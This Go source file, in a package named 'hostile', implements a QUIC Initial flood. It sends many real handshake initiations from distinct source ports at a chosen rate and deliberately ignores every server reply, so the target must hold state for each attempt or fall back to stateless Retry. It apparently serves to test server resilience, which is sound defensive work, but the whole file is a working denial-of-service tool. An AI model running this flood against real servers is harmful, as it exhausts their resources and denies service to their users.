package hostile

import (
	"context"
	"crypto/tls"
	"net"
	"sync"
	"time"

	"github.com/quic-go/quic-go"
)

// QUICFlood sends n real QUIC Initials to addr, each from a UDP socket of
// its own (a distinct source port), at most perSecond a second, and never
// answers what the server sends back: every one is a connection attempt
// that the server must either keep state for until its handshake times out,
// or answer statelessly (Retry, CONNECTION_REFUSED). Each Initial is made
// by quic-go's client (a fresh ClientHello, a fresh connection ID) whose
// socket drops every packet it receives and which is abandoned after its
// first packet. It returns how many it sent.
func QUICFlood(ctx context.Context, addr string, n int, perSecond float64) (int, error) {
	raddr, err := net.ResolveUDPAddr("udp", addr)
	if err != nil {
		return 0, err
	}
	tick := time.NewTicker(time.Duration(float64(time.Second) / perSecond))
	defer tick.Stop()
	var (
		wg   sync.WaitGroup
		mu   sync.Mutex
		sent int
		ferr error
	)
	slots := make(chan struct{}, 64)
	for i := 0; i < n; i++ {
		select {
		case <-ctx.Done():
			wg.Wait()
			return sent, ctx.Err()
		case <-tick.C:
		}
		slots <- struct{}{}
		wg.Go(func() {
			defer func() { <-slots }()
			ok, err := oneInitial(ctx, raddr)
			mu.Lock()
			defer mu.Unlock()
			if ok {
				sent++
			} else if ferr == nil && err != nil {
				ferr = err
			}
		})
	}
	wg.Wait()
	if sent == 0 && ferr != nil {
		return 0, ferr
	}
	return sent, nil
}

// oneInitial dials raddr from a new socket until the dial's first packet is
// written, then abandons it.
func oneInitial(ctx context.Context, raddr *net.UDPAddr) (bool, error) {
	uc, err := net.ListenUDP("udp", &net.UDPAddr{IP: raddr.IP})
	if err != nil {
		return false, err
	}
	pc := &deafConn{uc: uc, wrote: make(chan struct{}), closed: make(chan struct{})}
	defer pc.Close()
	dctx, cancel := context.WithTimeout(ctx, 5*time.Second)
	defer cancel()
	go func() {
		select {
		case <-pc.wrote:
		case <-dctx.Done():
		}
		cancel()
	}()
	tr := &quic.Transport{Conn: pc}
	defer tr.Close()
	defer pc.Close() // first: the Transport's Close waits for its reader to end
	_, err = tr.Dial(dctx, raddr, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h3"}}, &quic.Config{})
	select {
	case <-pc.wrote:
		return true, nil
	default:
		return false, err
	}
}

// deafConn is a client socket that sends and never receives. It offers
// only net.PacketConn's methods, so that quic-go reads through ReadFrom
// rather than the UDP socket's own.
type deafConn struct {
	uc              *net.UDPConn
	once, closeOnce sync.Once
	wrote, closed   chan struct{}
}

func (c *deafConn) WriteTo(p []byte, addr net.Addr) (int, error) {
	n, err := c.uc.WriteTo(p, addr)
	if err == nil {
		c.once.Do(func() { close(c.wrote) })
	}
	return n, err
}

func (c *deafConn) ReadFrom([]byte) (int, net.Addr, error) {
	<-c.closed
	return 0, nil, net.ErrClosed
}

func (c *deafConn) Close() error {
	c.closeOnce.Do(func() { close(c.closed) })
	return c.uc.Close()
}

func (c *deafConn) LocalAddr() net.Addr                { return c.uc.LocalAddr() }
func (c *deafConn) SetDeadline(t time.Time) error      { return c.uc.SetDeadline(t) }
func (c *deafConn) SetReadDeadline(t time.Time) error  { return c.uc.SetReadDeadline(t) }
func (c *deafConn) SetWriteDeadline(t time.Time) error { return c.uc.SetWriteDeadline(t) }
